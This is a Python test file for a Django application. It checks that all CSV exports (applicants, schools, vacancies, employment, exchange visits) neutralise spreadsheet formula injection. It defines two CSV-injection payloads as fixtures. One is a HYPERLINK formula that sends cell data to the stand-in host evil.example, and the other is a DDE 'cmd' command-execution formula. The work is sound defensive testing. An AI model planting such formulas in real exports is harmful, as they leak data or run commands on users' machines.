"""Every CSV export neutralises cells a spreadsheet would run as a formula (OWASP)."""

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse

from apps.core.exports import csv_safe_cell
from apps.employment import services as employment_services
from apps.employment.models import ExchangeVisit
from apps.schools import services as school_services
from apps.schools.models import GroupKind, MemberRole
from tests.applications.factories import (
    ApplicationFactory,
    accepted_application,
    english_vacancy,
)
from tests.schools.factories import PartnerSchoolFactory, SchoolFactory
from tests.teachers.factories import make_eligible_teacher
from tests.vacancies.factories import VacancyFactory

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_LICENCE = "=cmd|' /C calc'!A0"


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def _cells(rows) -> list[str]:
    return [cell for row in rows for cell in row]


def _assert_neutralised(rows, *values: str) -> None:
    cells = _cells(rows)
    for value in values:
        assert "'" + value in cells, value
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 571", "'+86 571"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("Plain", "Plain"),
        ("a=b", "a=b"),
        (None, ""),
        (-5, -5),
        (16, 16),
    ],
)
def test_csv_safe_cell(value, expected):
    assert csv_safe_cell(value) == expected


@pytest.fixture
def center_admin(center_user):
    center_user.groups.add(Group.objects.get(name="Center staff"))
    return center_user


@pytest.fixture
def evil_teacher(db):
    return make_eligible_teacher(legal_name=EVIL_NAME)


def test_school_applicant_csv(client, school_a, liaison_a, evil_teacher):
    vacancy = VacancyFactory(school=school_a, title_en="@Post")
    ApplicationFactory(vacancy=vacancy, teacher=evil_teacher)
    client.force_login(liaison_a)

    rows = _rows(client.get(reverse("applications:applicants_csv", args=[vacancy.code])))

    _assert_neutralised(rows, EVIL_NAME)


def test_bureau_school_and_group_csv(client, center_user, bureau_xihu_user):
    lead = SchoolFactory(licence_number=EVIL_LICENCE, address="+86 West Lake")
    member = SchoolFactory(name_en="-Member")
    school_services.school_group_create(
        actor=center_user,
        kind=GroupKind.CLUSTER,
        name="=Group",
        lead_school=lead,
        members=[(member, MemberRole.MEMBER)],
    )
    client.force_login(bureau_xihu_user)

    _assert_neutralised(
        _rows(client.get(reverse("schools:bureau_schools_csv"))),
        EVIL_LICENCE,
        "+86 West Lake",
        "-Member",
    )
    _assert_neutralised(_rows(client.get(reverse("schools:bureau_groups_csv"))), "=Group")


def test_bureau_vacancy_csv(client, school_a, bureau_xihu_user):
    VacancyFactory(school=school_a, title_en="=Evil post", title="=Evil post")
    client.force_login(bureau_xihu_user)

    _assert_neutralised(_rows(client.get(reverse("vacancies:bureau_csv"))), "=Evil post")


def test_employment_csvs_school_bureau_and_admin(
    client, school_a, liaison_a, bureau_xihu_user, center_admin, evil_teacher
):
    vacancy = english_vacancy(school=school_a)
    employment = employment_services.employment_hire(
        actor=liaison_a, application=accepted_application(vacancy, teacher=evil_teacher)
    )

    client.force_login(liaison_a)
    _assert_neutralised(_rows(client.get(reverse("employment:school_csv"))), EVIL_NAME)
    client.force_login(bureau_xihu_user)
    _assert_neutralised(_rows(client.get(reverse("employment:bureau_csv"))), EVIL_NAME)
    client.force_login(center_admin)
    admin_export = client.post(
        reverse("admin:employment_employment_changelist"),
        {"action": "export_csv", "_selected_action": [employment.pk]},
    )
    _assert_neutralised(_rows(admin_export), EVIL_NAME)
    applications_export = client.post(
        reverse("admin:applications_application_changelist"),
        {"action": "export_csv", "_selected_action": [employment.application.pk]},
    )
    _assert_neutralised(_rows(applications_export), EVIL_NAME)


def test_admin_exchange_visit_csv(client, school_a, center_admin):
    visit = ExchangeVisit.objects.create(
        school=school_a,
        partner_school=PartnerSchoolFactory(school=school_a),
        visitor_name="@Visitor",
        nationality="GB",
        passport_number="X1234567",
        arrival=date(2027, 3, 1),
        departure=date(2027, 4, 1),
        purpose="Exchange",
    )
    client.force_login(center_admin)

    response = client.post(
        reverse("admin:employment_exchangevisit_changelist"),
        {"action": "export_csv", "_selected_action": [visit.pk]},
    )

    _assert_neutralised(_rows(response), "@Visitor")


def test_no_export_writes_csv_behind_the_escaping_writer():
    apps_dir = Path(__file__).resolve().parents[2] / "apps"
    offenders = [
        str(path.relative_to(apps_dir))
        for path in apps_dir.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    # core/bulk.py may feed PostgreSQL COPY with csv: that is no person's spreadsheet.
    assert "core/exports.py" in offenders
    assert set(offenders) <= {"core/bulk.py", "core/exports.py"}
